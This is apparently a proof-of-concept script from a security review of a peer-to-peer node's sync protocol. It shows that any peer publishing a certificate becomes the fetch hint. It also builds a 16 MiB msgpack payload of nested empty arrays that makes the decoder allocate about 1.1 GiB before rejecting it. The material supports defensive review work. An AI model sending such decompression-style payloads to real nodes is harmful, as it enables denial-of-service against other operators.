"""Review 37, finding F: whoever publishes a certificate first becomes the fetch hint, and a sync
answer of empty arrays costs the fetching node ~1.1 GiB and ~4 s of CPU.

1. protocol/slots.py: a ``CertificateSeen`` for a block we do not hold (a header-only block not yet
   fetched, a block whose gossip we missed) queues ``Fetch(block_id, hint=from_peer)``, and
   ``from_peer`` is the gossip *origin* of the certificate message (node/core/daemon.py ``_pump``):
   any peer that publishes a valid certificate -- certificates are public; with n > q any q-subset
   of the votes is a new message -- is asked first (node/core/syncsvc.py ``fetch_block``).
2. The answer is read up to ``MAX_RESPONSE_BYTES`` (16 MiB) and decoded by ``protocol.sync.
   decode_response`` -> ``protocol.codec.unpackb`` (max_items 1,024 per array, no bound on how many
   arrays): 16 MiB of empty arrays builds ~16 M Python lists before the shape check refuses it.
   Up to ``max_fetches`` (8) fetches run at once.

Part 2 runs the decoder in a child process to read its peak RSS.
Run from /work/main:  .venv/bin/python docs/review37c/f_fetch_hint_bomb.py
"""

from __future__ import annotations

import subprocess
import sys
import textwrap

sys.path.insert(0, ".")

from protocol.slots import CertificateSeen, Fetch  # noqa: E402
from tests.protocol.test_slots import KEYS, P, block, cert, core  # noqa: E402

c = core()
b = block(P, 1)
out = c.handle(CertificateSeen(cert(b, KEYS[:3]), "12D3KooW-any-stranger-that-published-it"), 0)
print("1. certificate for a block we lack, published by a stranger ->",
      [(type(e).__name__, e.hint) for e in out if isinstance(e, Fetch)])

child = textwrap.dedent("""
    import resource, sys, time
    sys.path.insert(0, ".")
    import msgpack
    from protocol.sync import MAX_RESPONSE_BYTES, decode_response
    data = msgpack.packb([2, [[[[] for _ in range(15)] for _ in range(1020)] for _ in range(1024)]])
    assert len(data) <= MAX_RESPONSE_BYTES
    import gc; gc.collect()
    base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    t = time.thread_time()
    try:
        decode_response(data)
    except Exception as exc:
        err = type(exc).__name__ + ": " + str(exc)[:70]
    print(f"2. sync answer of {len(data) / 2**20:.1f} MiB of empty arrays: {time.thread_time() - t:.2f} s CPU, "
          f"peak RSS +{(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - base) / 1024:.0f} MiB, then {err}")
""")
# The input is built from a Python structure that itself is ~1 GiB; build it, drop it, then decode.
child = child.replace("data = msgpack.packb(", "data = msgpack.packb(").replace(
    "import gc; gc.collect()", "import gc; gc.collect(); open('/tmp/r37f.bin','wb').write(data)")
subprocess.run([sys.executable, "-c", child.split("assert")[0] + "open('/tmp/r37f.bin','wb').write(data)"],
               check=True)
reader = child.replace(
    "data = msgpack.packb([2, [[[[] for _ in range(15)] for _ in range(1020)] for _ in range(1024)]])",
    "data = open('/tmp/r37f.bin','rb').read()").replace(
    "import gc; gc.collect(); open('/tmp/r37f.bin','wb').write(data)", "")
subprocess.run([sys.executable, "-c", reader], check=True)
subprocess.run(["rm", "-f", "/tmp/r37f.bin"], check=True)
